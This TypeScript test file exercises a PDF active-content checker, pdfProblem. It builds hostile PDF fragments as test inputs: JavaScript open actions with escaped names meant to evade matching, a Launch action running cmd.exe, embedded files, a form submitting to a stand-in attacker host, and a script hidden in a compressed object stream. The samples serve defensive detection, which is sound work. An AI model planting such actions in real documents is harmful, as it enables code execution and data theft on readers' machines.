import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { makePdf } from '../../../tooling/harness/pdf';
import { PDF_ACTIVE_CONTENT, PDF_UNCHECKABLE, pdfProblem } from './pdf-check';

const pdf = (...parts: Array<string | Buffer>) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p)));
const CATALOG = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R';
const PAGES = ' >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n';
const TRAILER = 'trailer\n<< /Root 1 0 R >>\n%%EOF\n';
/** A stream object: its dictionary's extra entries, then its bytes. */
const stream = (n: number, entries: string, data: Buffer) =>
  pdf(`${n} 0 obj\n<< /Length ${data.length} ${entries} >>\nstream\n`, data, '\nendstream\nendobj\n');

test('a PDF of pages alone passes, whatever its page and image streams hold', () => {
  assert.equal(pdfProblem(makePdf()), null);
  // Compressed bytes can hold anything, "/JS " included: a content or image stream is never read as names.
  const image = pdf(randomBytes(2000), '/JS /Launch (x)', randomBytes(2000));
  assert.equal(pdfProblem(pdf(CATALOG, PAGES, stream(3, '/Type /XObject /Subtype /Image /Filter /DCTDecode', image), TRAILER)), null);
  // Links to a web page (a URI action) and opening at a page (GoTo) are not active content.
  assert.equal(pdfProblem(pdf(CATALOG, ' /OpenAction [3 0 R /Fit] /URI << /Base (https://foscos.fssai.gov.in/) >>', PAGES, TRAILER)), null);
});

test('scripts, launch actions, attachments and forms are refused, written plainly or with escaped names', () => {
  for (const catalog of [
    ' /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    ' /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
    ' /Names << /EmbeddedFiles 5 0 R >>',
    ' /AA << /O << /S /Launch /F (cmd.exe) >> >>',
    ' /AcroForm << /XFA 6 0 R >>',
    ' /OpenAction << /S /SubmitForm /F (https://evil.example/) >>',
  ])
    assert.equal(pdfProblem(pdf(CATALOG, catalog, PAGES, TRAILER)), PDF_ACTIVE_CONTENT, catalog);
});

test('a script packed in a compressed object stream is found; one that cannot be unpacked is refused as uncheckable', () => {
  const packed = (objects: string) => deflateSync(Buffer.from(`4 0 ${objects}`, 'latin1'));
  const objStm = (entries: string, data: Buffer) => stream(3, `/Type /ObjStm /N 1 /First 4 ${entries}`, data);
  const withScript = packed('<< /S /JavaScript /JS (this.exportDataObject\\({cName: "x"}\\)) >>');
  assert.equal(pdfProblem(pdf(CATALOG, PAGES, objStm('/Filter /FlateDecode', withScript), TRAILER)), PDF_ACTIVE_CONTENT);
  assert.equal(pdfProblem(pdf(CATALOG, PAGES, objStm('/Filter [/FlateDecode]', withScript), TRAILER)), PDF_ACTIVE_CONTENT);
  const clean = packed('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  assert.equal(pdfProblem(pdf(CATALOG, PAGES, objStm('/Filter /FlateDecode', clean), TRAILER)), null);
  // Another filter, a predictor, or bytes that do not inflate (an encrypted file's): not readable, so refused.
  assert.equal(pdfProblem(pdf(CATALOG, PAGES, objStm('/Filter /ASCIIHexDecode', Buffer.from('3c3c3e3e')), TRAILER)), PDF_UNCHECKABLE);
  assert.equal(
    pdfProblem(pdf(CATALOG, PAGES, objStm('/Filter /FlateDecode /DecodeParms << /Predictor 12 >>', clean), TRAILER)),
    PDF_UNCHECKABLE,
  );
  assert.equal(
    pdfProblem(pdf(CATALOG, PAGES, objStm('/Filter /FlateDecode', Buffer.from('not zlib data at all')), TRAILER)),
    PDF_UNCHECKABLE,
  );
});
